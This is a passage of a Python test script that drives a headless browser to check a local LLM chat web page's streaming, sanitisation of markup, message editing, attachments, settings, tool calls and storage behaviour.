#!/usr/bin/env python3
"""page_long.py - everything that the web page can do, in a headless Chromium, with the built-in model.

usage: page_long.py INGLE [--shots FOLDER] [--axe axe.min.js] [PART...]

A part is a function below.  axe-core is in the PyPI package axe-playwright-python.  Exit 77 (skipped) without chromium and chromedriver.
"""
import http.server, json, os, sys, tempfile, threading, time

import browser
import client
import media
from page_shapes import HOSTILE, MARKUP
from wait import until

LONGEST = 100  # ms of processor time of one task: asked are 50 on a quiet machine; a page that freezes needs seconds

PIECES = 100
STREAMED = """window.finished = false;
window.real ??= window.fetch;
window.fetch = async (url, options) => !/chat\\/completions$/.test(url) ? real(url, options) : new Response(new ReadableStream({async start(c) {
    const n = Math.max(1, Math.ceil(text.length / PIECES));
    for (let at = 0; at < text.length; at += n) {
        const choice = {index: 0, delta: {content: text.slice(at, at + n)}, finish_reason: at + n < text.length ? null : 'stop'};
        c.enqueue(new TextEncoder().encode('data: ' + JSON.stringify({choices: [choice]}) + '\\n\\n'));
        await new Promise(r => setTimeout(r, 10));
    }
    c.close();
    window.finished = true;
}}), {headers: {'content-type': 'text/event-stream'}});
setTimeout(() => ingle.ask('x'));"""
SHOW = "ingle.add({role: 'assistant', parent: arguments[1] ? null : ingle.chat.leaf, content: arguments[0]}); ingle.show()"


def shown(p, text):
    p.run("ingle.add({role: 'user', parent: null, content: 'x'});" + SHOW, text)
    p.wait("return ingle.isIdle() && document.querySelector('.message.assistant .text').textContent.length > 0", seconds=120)


def once(p):
    """The work: a finished block is shown once, however many pieces come after it."""
    text = HOSTILE["answer"][:20000]
    p.run("window.text = arguments[0]; window.placed = 0; const place = ingle.View.prototype.place; "
          "ingle.View.prototype.place = function (i, ...a) { if (i + 1 < this.blocks.length) window.early = i; placed++; return place.call(this, i, ...a); }", text)
    p.run(STREAMED.replace("PIECES", str(PIECES)))
    p.wait("return window.finished && ingle.isIdle()", seconds=120)
    blocks = p.run("return document.querySelectorAll('.message .block, .message .code').length")
    assert p.run("return window.early") is None, "a finished block is shown again"
    assert blocks > 100 and p.run("return placed") <= blocks + PIECES, (blocks, p.run("return placed"))


def streaming(p):
    """What arrives in pieces ends as what arrives at once."""
    text = "".join(open(os.path.join(os.path.dirname(__file__), "../..", f)).read()[:20000]
                   for f in ("README.md", "STYLE.md", "CONTRIBUTING.md"))
    text += "\n1. Do this:\n   ```sh\n   # no heading\n\n   make\n   ```\n2. Then\n\n   - $a$\n\n\\[\na\n= b\n\\]\n\n~~~\nopen"
    grown, whole = p.b.call("POST", p.b.session + "/execute/async", {"args": [text], "script": """
        const [text, done] = arguments, box = () => document.createElement('div');
        const a = box(), b = box(), idle = async () => { do await new Promise(r => setTimeout(r, 30)); while (!ingle.isIdle()); };
        (async () => {
            const one = new ingle.View(a), two = new ingle.View(b);
            for (let n = 0; n < text.length; n += 1 + Math.floor(n * 7919 % 61)) {
                one.set(text.slice(0, n), false);
                if (n % 5 === 0) await new Promise(r => setTimeout(r, 0));
            }
            one.set(text, true);
            two.set(text, true);
            await idle();
            done([a.innerHTML, b.innerHTML]);
        })()"""})
    norm = lambda html: html.replace('<span class="lines"></span>', "").replace("\n</span><span class=\"lines\">", "\n")
    assert len(whole) > 10000 and len(grown) > 10000, (len(whole), len(grown))
    text_of = lambda html: "".join(part.split(">", 1)[-1] for part in norm(html).split("<"))
    assert text_of(grown) == text_of(whole), "text that arrives in pieces is shown differently"


def choose(p, theme):
    """The button of the three themes shows this one."""
    for _ in range(3):
        if p.text("#theme") != [theme]:
            p.b.click("#theme")
    assert p.text("#theme") == [theme], p.text("#theme")


def markup(p):
    """Markup is text, nothing runs, nothing is fetched."""
    before = p.run("return performance.getEntriesByType('resource').length")
    shown(p, MARKUP)
    time.sleep(0.3)
    assert p.run("return window.bad") is None
    for tag in ("img", "script", "iframe", "style", "form", "input", "object", "svg[onload]", "[onerror]", "[onmouseover]"):
        assert p.run("return document.querySelectorAll('.message ' + arguments[0]).length", tag) == 0, tag
    hrefs = p.run("return [...document.querySelectorAll('.message a')].map(a => a.getAttribute('href'))")
    assert all(h.startswith("http") for h in hrefs if h is not None), hrefs
    loaded = p.run("return performance.getEntriesByType('resource').map(e => e.name)")[before:]
    assert all(n.startswith(p.url) for n in loaded), loaded
    styles = p.run("return [...document.querySelectorAll('.message .text *')].map(e => getComputedStyle(e).position)")
    assert "fixed" not in styles, styles


SENT = "window.sent = []; const f = fetch; window.fetch = async (u, o) => { if (/completions$/.test(u)) sent.push(JSON.parse(await new Response(o.body).text())); return f(u, o); }"
LONG = '{"ignore_eos": true, "logit_bias": {"1": -100, "106": -100}}'


def versions(p):
    """Nothing is lost by Regenerate, Edit and Delete; a cut answer goes on."""
    p.setting("max_tokens", "12")
    p.setting("extra", LONG)
    p.ask("First question")
    assert "cut" in p.stats(), p.stats()
    one = p.answer()
    p.click_act("Continue")
    p.wait("return document.querySelector('.message:last-child .text').innerText.length > arguments[0]", len(one) + 8)
    p.wait_done()
    assert p.answer().startswith(one.split()[0]) and len(p.text(".message")) == 2
    longer = p.answer()
    p.click_act("Regenerate")
    p.wait_done()
    assert p.text(".versions span") == ["2/2"]
    p.run(p.act("\u2039") + "b.click()")
    p.wait_done()
    assert p.answer() == longer and p.text(".versions span") == ["1/2"]
    p.click_act("Edit")
    p.run("const t = document.querySelector('.message textarea'); t.value = 'My own answer'; t.focus()")
    p.run("document.querySelector('.message .acts .main').click()")
    p.wait_done()
    assert p.answer() == "My own answer" and p.text(".versions span") == ["3/3"]
    p.ask("Second question")
    p.click_act("Edit", ".message.user")
    p.run("const t = document.querySelector('.message textarea'); t.value = 'Another question'; t.focus()")
    p.run("document.querySelector('.message .acts .main').click()")
    p.wait("return document.querySelectorAll('.message').length === 4")
    p.wait_done()
    assert p.text(".message.user .text") == ["First question", "Another question"]
    assert p.text(".versions span") == ["3/3", "2/2"], p.text(".versions span")
    p.click_act("Delete", ".message.user")
    assert p.text(".message.user .text") == ["First question", "Second question"], p.text(".message.user .text")
    p.wait("return !$('undo').hidden")
    p.run("$('undo').click()")
    p.wait("return document.querySelectorAll('.message.user')[1]?.querySelector('.text').innerText === 'Another question'")
    p.load()
    p.wait("return document.querySelectorAll('.message').length === 4")
    p.wait_done()
    assert p.text(".message.user .text") == ["First question", "Another question"]
    assert p.text(".versions span") == ["3/3", "2/2"], p.text(".versions span")
    p.run("document.querySelectorAll('.message.user')[0].querySelectorAll('.acts button')[1].click()")  # Edit
    p.run("const t = document.querySelector('.message textarea'); t.value = 'New first'; t.focus()")
    p.run("document.querySelector('.message .acts .main').click()")
    p.wait_done()
    assert p.text("#title") == ["New first"], "the title is that of the first question"


def pdf(text, extra=b"", pages=1):
    """A file of one page with that text; of many, all are that page."""
    stream = b"BT /F1 12 Tf 20 100 Td (" + text.encode() + b") Tj ET" if text else b"0 0 10 10 re f"
    bodies = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + b"3 0 R " * pages + b"] /Count %d >>" % pages,
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
              b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
              b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"] + ([extra] if extra else [])
    out, places = b"%PDF-1.4\n", []
    for i, body in enumerate(bodies):
        places.append(len(out))
        out += b"%d 0 obj\n" % (i + 1) + body + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % n for n in places)
    more = b" /Encrypt 6 0 R /ID [<00><00>]" if extra else b""
    return out + b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, more, at)


LOCKED = b"<< /Filter /Standard /V 1 /R 2 /P -4 /O <" + b"41" * 32 + b"> /U <" + b"42" * 32 + b"> >>"
ADD = """const [name, hex, type, how, size, done] = arguments;
const bytes = new Uint8Array(hex.match(/../g)?.map(h => parseInt(h, 16)) ?? []);
const f = new File([bytes], name, {type});
if (size) Object.defineProperty(f, 'size', {value: size});
const dt = new DataTransfer();
dt.items.add(f);
document.getElementById('status').textContent = '';
const n = document.querySelectorAll('#files li').length;
if (how === 'drop') dispatchEvent(new DragEvent('drop', {dataTransfer: dt, bubbles: true, cancelable: true}));
else if (how === 'paste') document.getElementById('input').dispatchEvent(new ClipboardEvent('paste', {clipboardData: dt, cancelable: true}));
else ingle.addFiles([f]);
const end = performance.now() + 20000;
(function look() {
    const said = document.getElementById('status').textContent, now = document.querySelectorAll('#files li').length;
    if ((now > n || / not attached/.test(said)) || performance.now() > end) done([now - n, said]);
    else setTimeout(look, 20);
})();"""


def files(p):
    """Text, code and PDF by button, drop and paste; what cannot go is said."""
    def add(name, data, kind="", how="call", size=0):
        return p.b.call("POST", p.b.session + "/execute/async", {"script": ADD, "args": [name, data.hex(), kind, how, size]})

    assert add("a.py", b"print('```')\n", "text/x-python", "drop") == [1, ""]
    assert add("b.txt", "\ufeffw\u00f6rld".encode("utf-16-le"), "text/plain", "paste")[0] == 1
    assert add("c.pdf", pdf("Words of a page"), "application/pdf", "drop")[0] == 1
    for name, data, kind, size, want in (
            ("p.png", b"x", "image/png", 0, "no PNG, JPEG"), ("s.mp3", b"ID3", "", 0, "no WAV"), ("v.mp4", b"x", "video/mp4", 0, "a video"),
            ("big.png", b"\x89PNG", "image/png", 10**9, "1.0 GB"), ("big.wav", b"RIFF", "", 10**9, "1.0 GB"),
            ("big.txt", b"x", "text/plain", 10**9, "1.0 GB"), ("big.pdf", b"x", "application/pdf", 10**9, "1.0 GB"),
            ("bin.dat", b"\xff\x00\x80", "", 0, "no text"), ("zero.txt", b"a\0b", "", 0, "no text"), ("empty", b"", "", 0, "empty"),
            ("scan.pdf", pdf(""), "", 0, "has no text"), ("locked.pdf", pdf("x", LOCKED), "", 0, "password"), ("bad.pdf", b"hello", "", 0, "no valid PDF"),
            ("cut.pdf", pdf("Words")[:300], "", 0, "PDF"), ("thick.pdf", pdf("Words", pages=6000), "", 0, "6,000 pages")):
        n, said = add(name, data, kind, "call", size)
        assert n == 0 and want in said and name in said, (name, n, said)
    with tempfile.TemporaryDirectory() as folder:
        for name in "large.txt", "large.pdf", "large.png", "large.wav":
            with open(os.path.join(folder, name), "wb") as f:
                f.truncate(1 << 30)
            p.b.type("#pick-files", f.name)
            p.wait("return $('status').innerText.includes(arguments[0])", f"{name} is not attached: it has 1.1 GB")
    assert [t.split(" (")[0] for t in p.text("#files summary")] == ["a.py", "b.txt", "c.pdf"], p.text("#files summary")
    p.run("""const dt = new DataTransfer(); dt.setData('text/plain', 'long text. '.repeat(1000));
             $('input').dispatchEvent(new ClipboardEvent('paste', {clipboardData: dt, cancelable: true, bubbles: true}))""")
    assert "pasted text 1.txt" in p.text("#files summary")[3]
    p.run("document.querySelectorAll('#files li button')[3].click()")
    p.wait("return / of 4,096 tokens/.test($('context-text').innerText)")
    if p.folder:
        p.b.shot(f"{p.folder}/files.png")
    p.setting("max_tokens", "5")
    p.ask("What is this?")
    assert len(p.text(".message.user .file")) == 3 and not p.text("#files li")
    sent = p.run("return ingle.chat.nodes.get([...ingle.chat.nodes.keys()][0]).files")
    assert sent[2]["text"].strip() == "Words of a page" and "w\u00f6rld" in sent[1]["text"], sent
    p.load()
    p.wait("return document.querySelectorAll('.message.user .file').length === 3")


def media_files(p):
    """Pictures and sounds that go with a question; one that the server cannot read is told, and nothing is lost."""
    def add(name, data, kind="", how="call"):
        return p.b.call("POST", p.b.session + "/execute/async", {"script": ADD, "args": [name, data.hex(), kind, how, 0]})

    p.setting("max_tokens", "4", "all")
    p.setting("extra", '{"grammar": "root ::= \\"yes\\""}', "all")
    p.run(SENT)
    assert add("a.png", media.png(64, 48), "image/png", "drop") == [1, ""]
    assert p.run("const i = document.querySelector('#files img.thumb'); return i && i.complete && i.naturalHeight") == 128
    p.ask("What is this?")
    assert add("s.wav", media.wav(8000), "audio/wav", "paste") == [1, ""]
    p.ask("And this?")
    sent = p.run("return sent.map(b => b.messages.map(m => Array.isArray(m.content) ? m.content.map(c => c.type).join() : m.role))")
    assert sent == [["image_url,text"], ["image_url,text", "assistant", "input_audio,text"]], sent
    assert not any(p.text(".message .error")), p.text(".message .error")
    p.load()
    p.wait("return document.querySelectorAll('.message.user .file').length === 2 && document.querySelector('.message.user img.thumb')")
    assert add("cut.png", media.png(64, 48)[:60], "image/png")[0] == 1
    p.b.type("#input", "Broken\n")
    p.wait("return document.querySelector('.message:last-child .error')?.innerText.includes('PNG')")
    assert p.text(".message.user .text") == ["What is this?", "And this?", "Broken"]
    assert not [c for c in p.b.complaints() if "400" not in c]


def copying(p):
    """Copy of code and of an answer; task lists and notes; the clipboard of an address without TLS."""
    code = "".join(f"let x{n} = '{n}';\n" for n in range(400))
    text = f"Hello **you**[^1]\n\n- [ ] open\n- [x] done\n\n```js\n{code}```\n\nSee [that][it].\n\n[^1]: The note\n\n[it]: https://a.example/\n"
    shown(p, text)
    assert p.run("return [...document.querySelectorAll('.message li')].map(e => e.textContent)") == ["\u2610 open", "\u2611 done"]
    assert p.run("return [...document.querySelectorAll('.message sup')].map(e => e.textContent)") == ["1", "1"]
    for clicked, found in ((0, 1), (1, 0)):  # a number leads to its note, and back
        p.run("document.querySelectorAll('.message a.note')[arguments[0]].click()", clicked)
        assert p.run("return [...document.querySelectorAll('.message a.note')].indexOf(document.activeElement)") == found
    assert p.run("return document.querySelector('.message a[href]').href") == "https://a.example/"
    p.run("window.copied = []; navigator.clipboard.writeText = async t => { copied.push(t); }")
    p.run("document.querySelector('.message .code button').click();"
          "[...document.querySelectorAll('.message:last-child .acts button')].find(b => b.textContent === 'Copy').click()")
    p.wait("return copied.length === 2")
    assert p.run("return copied") == [code.rstrip("\n"), text], "what is copied is not what was written"
    p.wait("return document.querySelector('.message .code button').textContent === 'Copied'")
    p.run("""navigator.clipboard.writeText = async () => { throw new Error('no'); };
             const set = DataTransfer.prototype.setData; DataTransfer.prototype.setData = function (k, t) { copied.push(t); return set.call(this, k, t); };""")
    p.b.click(".message .code button")
    p.wait("return copied.length === 3")
    assert p.run("return copied[2]") == code.rstrip("\n")
    long = "some words of a line\n" * 5000
    shown(p, long)  # a long text is edited in parts
    p.run("[...document.querySelectorAll('.message:last-child .acts button')].find(b => b.textContent === 'Edit').click()")
    p.wait("return document.querySelectorAll('.message .field').length > 20 && !document.querySelector('.message .acts .main').disabled")
    p.run("document.querySelectorAll('.message .field')[3].scrollIntoView()")
    p.wait("return document.querySelectorAll('.message .field')[3].querySelector('textarea')")
    assert p.run("return document.querySelectorAll('.message textarea').length") < 20
    p.run("const t = document.querySelectorAll('.message .field')[3].firstChild; t.value = 'CHANGED ' + t.value; document.querySelector('.message .acts .main').click()")
    p.wait("return document.querySelector('.versions')")
    text = p.run("return ingle.chat.nodes.get(ingle.chat.leaf).content")
    assert text.count("CHANGED") == 1 and text.replace("CHANGED ", "") == long.strip(), len(text)


# In a message, a setting, a question: each is edited, pasted and kept.
LARGE = {"lines": "some words of a line\n" * 50000, "one line": "word " * 200000, "one word": "w" * 1000000,
         "right to left": "\u05e9\u05dc\u05d5\u05dd " * 170000, "marks": ("a" + "\u0301" * 50 + " ") * 4000}
CLIPBOARD = "const done = arguments[0]; navigator.clipboard.writeText(text).then(() => done('ok'), e => done(String(e)))"


def editing(p):
    """A large text in a message, a setting or a result of a tool: no task is long, and all of it is kept."""
    def timed(what, script, until, paste=None):
        q.b.begin_tasks()
        q.run("setTimeout(() => {" + script + "})")
        if paste:
            q.b.type(paste, "\ue009v")
        q.wait(until, seconds=200)
        longest = q.b.tasks()[0]
        print(f"{longest:7.1f} ms: {what}", flush=True)
        assert longest < LONGEST, (what, longest)

    act = "[...[...document.querySelectorAll('.message')].at(-1).querySelectorAll('.acts button')].find(b => b.textContent.startsWith('%s')).click()"
    ready = "return ingle.isIdle() && document.querySelector('.message .acts .main')?.disabled === false"
    with browser.Page(p.server) as q:
        q.b.call("POST", q.b.session + "/goog/cdp/execute", {"cmd": "Browser.grantPermissions", "params": {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}})
        for name, text in LARGE.items():
            q.run("window.text = arguments[0]", text)
            q.run("ingle.chat.leaf = null; ingle.add({role: 'user', parent: null, content: 'x'});"
                  "ingle.add({role: 'assistant', parent: ingle.chat.leaf, content: text}); ingle.show()")
            q.wait("return document.querySelectorAll('.message').length === 2 && ingle.isIdle()", seconds=120)
            time.sleep(0.5)
            timed(name + ", edit", act % "Edit", ready)
            timed(name + ", cancel", act % "Cancel", "return ingle.isIdle() && !document.querySelector('.message textarea')")
            timed(name + ", edit", act % "Edit", ready)
            at = q.run("return document.querySelector('.message textarea').value.length")
            assert q.b.call("POST", q.b.session + "/execute/async", {"args": [], "script": CLIPBOARD}) == "ok"
            q.run("window.n = document.querySelectorAll('.field').length")
            timed(name + ", paste", "", ready + " && document.querySelectorAll('.field').length > 1.9 * n", ".message textarea")
            timed(name + ", keep", act % "Keep", "return ingle.isIdle() && document.querySelector('.versions')")
            kept = q.run("return ingle.chat.nodes.get(ingle.chat.leaf).content")
            assert kept == (text[:at] + text + text[at:]).strip(), (name, len(kept), len(text))
        q.b.click("#open-settings")
        timed("setting, paste", "", "return ingle.isIdle() && ingle.chat.settings?.system?.length === text.length", "[data-key=system]")
        q.run("$('settings').close()")
        timed("setting, open", "$('open-settings').click()", "return ingle.isIdle() && document.querySelectorAll('#settings .field').length > 20")
        q.run("$('reset').click(); $('settings').close()")
        timed("question, paste", "", "return document.querySelector('#files li')", "#input")
        assert q.text("#files summary")[0].startswith("pasted text 1.txt ("), q.text("#files summary")


def settings(p):
    """Fields show the server's values, refuse nonsense at its place, and belong to a conversation."""
    p.b.click("#open-settings")
    p.wait("return document.querySelector('[data-key=top_k]').placeholder === '64'")
    usual = p.run("return Object.fromEntries([...document.querySelectorAll('#fields input')].map(e => [e.dataset.key, e.placeholder]))")
    assert usual["temperature"] == "0.5" and usual["dry_base"] == "1.75" and usual["max_tokens"] == "until it ends", usual
    assert "server default (off)" in p.text("#fields select option"), p.text("#fields select option")
    assert "in use" in p.wait("return $('room').innerText")
    p.run("$('settings').close()")
    for key, value, want in (
            ("temperature", "5", "above 2"), ("top_k", "1.5", "no whole number"), ("extra", "{", "JSON"), ("extra", "[1]", "no object"),
            ("extra", '{"messages": []}', "'messages', which the page sets"), ("extra", '{"system": "x"}', "'system', which the page sets"), ("extra", "null", "no object"), ("extra", '"x"', "no object"), ("tools", "{}", "no JSON list"), ("extra", '{"stream": false}', "'stream'")):
        said = p.setting(key, value)
        assert want in said, (key, said)
    p.setting("temperature", "0.3")
    assert "which a field above sets" in p.setting("extra", '{"temperature": 1}')
    p.setting("max_tokens", "9")
    assert "'max_completion_tokens', which a field above sets" in p.setting("extra", '{"max_completion_tokens": 1}')
    p.setting("max_tokens", "")
    assert p.run("return ingle.chat.settings") == {"temperature": "0.3"}, p.run("return ingle.chat.settings")
    p.setting("system", "You are short.")
    p.setting("top_k", "7", "all")
    p.setting("max_tokens", "4")
    for key, value in (("dry_multiplier", "0.5"), ("xtc_probability", "0.1"), ("typical_p", "0.9"), ("samplers", "top_k, temperature"), ("stop", "zz\nyy"),
                       ("thinking", "low"), ("thinking_budget", "2"), ("seed", "3"), ("repeat_last_n", "32")):
        assert p.setting(key, value) == "", key
    p.run(SENT)
    p.ask("Hello")
    body = p.run("return sent[0]")
    want = {"temperature": 0.3, "top_k": 7, "max_tokens": 4, "dry_multiplier": 0.5, "samplers": ["top_k", "temperature"], "stop": ["zz", "yy"],
            "reasoning_effort": "low", "thinking_budget": 2, "seed": 3}
    assert {k: body.get(k) for k in want} == want, body
    assert body["messages"][0] == {"role": "system", "content": "You are short."}
    p.b.click("#new")
    p.ask("Hello")
    body = p.run("return sent[1]")
    assert body["top_k"] == 7 and "temperature" not in body and body["messages"][0]["role"] == "user", body
    p.setting("top_k", "", "all")


def tools(p):
    """Calls are shown; results are typed by hand, or a script gives them."""
    p.setting("tools", json.dumps([{"type": "function", "function": {"name": "get_weather", "parameters": client.WEATHER}}]))
    p.setting("extra", '{"tool_choice": "required", "parallel_tool_calls": false}')
    p.setting("max_tokens", "200")
    p.ask("Weather?")
    p.wait("return document.querySelector('.call textarea')")
    assert p.text(".call .who") == ["Call of get_weather"], p.text(".call .who")
    p.run("document.querySelector('.call textarea').value = '21 degrees'; document.querySelector('.calls > .main').click()")
    p.wait("return document.querySelectorAll('.message').length === 4")
    p.wait_done()
    assert p.text(".message.tool .text") == ["21 degrees"]
    p.run("ingle.tool('get_weather', async a => ({got: typeof a.city})); document.querySelector('.message:last-child .call textarea').value = 'rain'")
    p.setting("extra", "")
    p.run("document.querySelector('.message:last-child .calls > .main').click()")
    p.wait("return document.querySelectorAll('.message').length >= 6")
    p.wait_done()
    p.setting("extra", '{"tool_choice": "required", "parallel_tool_calls": false}')
    n = len(p.text(".message"))
    p.b.type("#input", "Again\n")
    p.wait("return [...document.querySelectorAll('.message.tool .text')].some(e => e.innerText === '{\"got\":\"string\"}')")
    p.run("document.dispatchEvent(new KeyboardEvent('keydown', {key: 'Escape'}))")
    p.wait("return $('stop').hidden")
    assert len(p.text(".message")) > n + 2


def keeping(p):
    """Search, names, pins, export, import, deletion with a way back, conversations of the page's first form."""
    p.setting("max_tokens", "4", "all")
    for text in ("Apples are red", "Pears are green"):
        p.b.click("#new")
        p.ask(text)
    assert p.text("#list .pick") == ["Pears are green", "Apples are red"]
    p.run("$('search').value = 'apples'; $('search').oninput()")
    assert p.text("#list .pick") == ["Apples are red"]
    word = p.run("return [...ingle.chat.nodes.values()].at(-1).content").split()
    p.run("$('search').value = 'nothing at all'; $('search').oninput()")
    p.wait("return $('list').innerText.includes('Nothing found')")
    if word and len(word[-1]) > 3:
        p.run("$('search').value = arguments[0]; $('search').oninput()", word[-1])
        p.wait("return document.querySelectorAll('#list .pick').length > 0")
    p.run("$('search').value = ''; $('search').oninput()")
    p.run("document.querySelectorAll('#list li button:last-child')[1].click(); $('chat-name').value = 'Fruit'; $('chat-pin').click()")
    p.wait("return document.querySelector('#list .pick').innerText === 'Fruit'")
    catch = """window.saved = []; URL.createObjectURL = b => { b.text().then(t => saved.push(t)); return 'about:blank#'; };
               HTMLAnchorElement.prototype.click = function () {};"""
    p.run(catch)
    p.run("document.querySelectorAll('#list li button:last-child')[0].click(); $('chat-json').click(); $('chat-markdown').click()")
    p.wait("return saved.length === 2")
    p.run("$('chat-box').close()")
    saved = p.run("return saved")
    data = next(t for t in saved if t.startswith("{"))
    text = next(t for t in saved if not t.startswith("{"))
    assert json.loads(data)["chats"][0]["title"] == "Fruit" and "## You\n\nApples are red" in text, saved
    pick = """const f = new File([arguments[0]], 'x.json'), dt = new DataTransfer(); dt.items.add(f);
              $('open-settings').click(); $('pick-import').files = dt.files; $('pick-import').onchange()"""
    p.run(pick, data)
    p.wait("return document.querySelectorAll('#list .pick').length === 3")
    for bad in ("{", "[]", '{"chats": 1}'):
        p.run("$('settings').close();" + pick, bad)
        p.wait("return $('settings-error').innerText.includes('not imported')")
        p.run("$('settings').close()")
    p.run(pick, json.dumps({"chats": [1, {"id": "a", "title": "<b>", "messages": [{"role": "user", "content": "<i>x</i>"}, {"role": "x"}, None]},
                                      {"id": "b", "messages": [{"id": "1", "parent": "1", "role": "user", "content": "circle"}]}]}))
    p.wait("return document.querySelectorAll('#list .pick').length === 5")
    p.run("[...document.querySelectorAll('#list .pick')].find(b => b.innerText === '<b>').click()")
    p.wait("return document.querySelector('.message .text')?.innerText === '<i>x</i>'")
    p.run("document.querySelectorAll('#list li.here button')[1].click(); $('chat-delete').click()")
    p.wait("return document.querySelectorAll('#list .pick').length === 4")
    p.run("$('undo').click()")
    p.wait("return document.querySelectorAll('#list .pick').length === 5")
    p.run("""localStorage.setItem('ingle.chat.old1', JSON.stringify({id: 'old1', title: 'Of old', messages: [
        {role: 'user', content: 'a question'}, {role: 'assistant', content: 'an **answer**', reasoning: 'hm', stats: {tokens: 3, rate: 2, finish: 'stop'}}]}));
        localStorage.setItem('ingle.chat.bad', '{{{'); localStorage.setItem('ingle.chat.bad2', '{"id": 5, "messages": "no"}')""")
    p.load()
    p.run("[...document.querySelectorAll('#list .pick')].find(b => b.innerText === 'Of old').click()")
    p.wait("return document.querySelector('.message strong')?.innerText === 'answer'")
    assert p.run("return Object.keys(localStorage).filter(k => k.startsWith('ingle.chat.')).sort()") == ["ingle.chat.bad", "ingle.chat.bad2"]
    p.run("$('open-settings').click(); $('wipe').click()")
    p.wait("return document.querySelectorAll('#list .pick').length === 0")
    p.run("$('undo').click()")
    p.wait("return document.querySelectorAll('#list .pick').length === 6")


FAKE = """const [events, wait] = arguments;
window.fetch = async (url, options) => {
    if (!/chat\\/completions$/.test(url)) return new Response('{}', {status: 404});
    const bytes = events.map(e => new TextEncoder().encode(e));
    return new Response(new ReadableStream({async start(c) {
        for (const b of bytes) { c.enqueue(b); await new Promise(r => setTimeout(r, wait)); }
        c.close();
    }}), {headers: {'content-type': 'text/event-stream'}});
};"""


def progress(p):
    """How far a model is loaded and a prompt is read; figures of an answer; a stream that is broken."""
    def chunk(**more):
        return "data: " + json.dumps({"choices": [], "model": "some-model", **more}) + "\n\n"

    def delta(finish=None, **d):
        return {"choices": [{"index": 0, "delta": d, "finish_reason": finish}]}

    figures = {"cache_n": 100, "prompt_n": 900, "prompt_ms": 4500, "prompt_per_second": 200, "predicted_n": 30, "predicted_ms": 3000,
               "predicted_per_second": 10, "draft_n": 20, "draft_n_accepted": 15}
    seen = [": the model is being loaded, 35 %\n\n",
            chunk(prompt_progress={"total": 1000, "cache": 100, "processed": 460, "time_ms": 1800}),
            chunk(**delta(reasoning_content="Hm.")), chunk(**delta(content="So ")), chunk(**delta(content="it is.", finish="stop")),
            chunk(timings=figures, usage={"prompt_tokens": 1000, "completion_tokens": 30, "total_tokens": 1030, "prompt_tokens_details": {"cached_tokens": 100}}),
            "data: [DONE]\n\n"]
    p.run(FAKE, seen, 300)
    p.run("""window.shown = new Set();
             new MutationObserver(() => { for (const e of document.querySelectorAll('.phase, .thought summary')) shown.add(e.textContent); })
                 .observe($('messages'), {subtree: true, childList: true, characterData: true})""")
    p.b.type("#input", "x\n")
    p.wait_done()
    for want in ("Loading nano-gemma4: 35 %", "Reading the prompt: 46 % \u00b7 460 of 1,000 tokens \u00b7 200 tokens/s \u00b7 3 s left", "Thinking\u2026"):
        assert want in p.run("return [...shown]"), (want, p.run("return [...shown]"))
    stats = p.wait_done()
    for want in ("30 tokens", "10.0 tokens/s", "3 s", "prompt 900 at 200 tokens/s, 100 from the cache", "75 % of 20 drafts accepted", "context 1,030 of 4,096"):
        assert want in stats, (want, stats)
    assert p.text(".message.assistant .who") == ["some-model"] and p.answer() == "So it is."
    for events, want in (([chunk(**delta(content="a")), "data: {{{\n\n"], "no JSON"), ([chunk(error={"message": "the roof is on fire"})], "roof"), ([], "cannot be reached"),
                         ([chunk(**delta(content="cut"))], "restarted")):
        p.run(FAKE, events, 1)
        p.b.type("#input", "y\n")
        p.wait("return document.querySelector('.message:last-child .error')?.innerText.includes(arguments[0])", want)


def reload(p):
    """An answer goes on over a reload, and is whole; another tab sees it."""
    p.setting("extra", LONG)
    p.setting("max_tokens", "2000")
    p.b.type("#input", "A very long story\n")
    p.wait("return document.querySelector('.message:last-child .text')?.innerText.length > 50")
    p.load()
    p.wait("return !$('stop').hidden || document.querySelector('.message:last-child .stats')?.innerText.includes('2,000 tokens')")
    first = p.b.call("GET", p.b.session + "/window")
    second = p.b.call("POST", p.b.session + "/window/new", {"type": "tab"})["handle"]
    p.b.call("POST", p.b.session + "/window", {"handle": second})
    p.load()
    p.wait("return document.querySelector('.message:last-child .text')?.innerText.length > 50")
    p.b.call("POST", p.b.session + "/window", {"handle": first})
    assert "2,000 tokens" in p.wait_done(), p.stats()
    whole = p.answer()
    assert not p.text(".message:last-child .error")[0]
    p.b.call("POST", p.b.session + "/window", {"handle": second})
    p.wait("return document.querySelector('.message:last-child .stats').innerText.includes('2,000 tokens')")
    p.wait_done()
    assert p.answer() == whole
    p.b.call("DELETE", p.b.session + "/window")
    p.b.call("POST", p.b.session + "/window", {"handle": first})


def tabs(p):
    """Two tabs ask in one conversation at once: both questions and answers stay, as versions."""
    p.setting("max_tokens", "8", "all")
    p.ask("Begin")
    first = p.b.call("GET", p.b.session + "/window")
    second = p.b.call("POST", p.b.session + "/window/new", {"type": "tab"})["handle"]
    p.b.call("POST", p.b.session + "/window", {"handle": second})
    p.load()
    p.wait("return document.querySelectorAll('.message').length === 2")
    p.setting("max_tokens", "300")
    p.setting("extra", LONG)
    p.b.type("#input", "From the second\n")
    p.b.call("POST", p.b.session + "/window", {"handle": first})
    p.b.type("#input", "From the first\n")
    p.wait_done()
    p.b.call("POST", p.b.session + "/window", {"handle": second})
    p.wait_done()
    nodes = p.run("return [...ingle.chat.nodes.values()].map(n => n.content)")
    p.b.call("DELETE", p.b.session + "/window")
    p.b.call("POST", p.b.session + "/window", {"handle": first})
    p.load()
    p.wait("return document.querySelectorAll('.message').length >= 4")
    kept = p.run("return [...ingle.chat.nodes.values()]")
    texts = [n["content"] for n in kept]
    assert "From the first" in texts and "From the second" in texts, (texts, nodes)
    for text in ("From the first", "From the second"):
        question = next(n for n in kept if n["content"] == text)
        assert any(n["parent"] == question["id"] and n["content"] for n in kept), text


def full(p):
    """Storage that is full or forbidden, and 5,000 messages."""
    p.setting("max_tokens", "4", "all")
    p.run("""const put = IDBObjectStore.prototype.put; window.undo = () => { IDBObjectStore.prototype.put = put; };
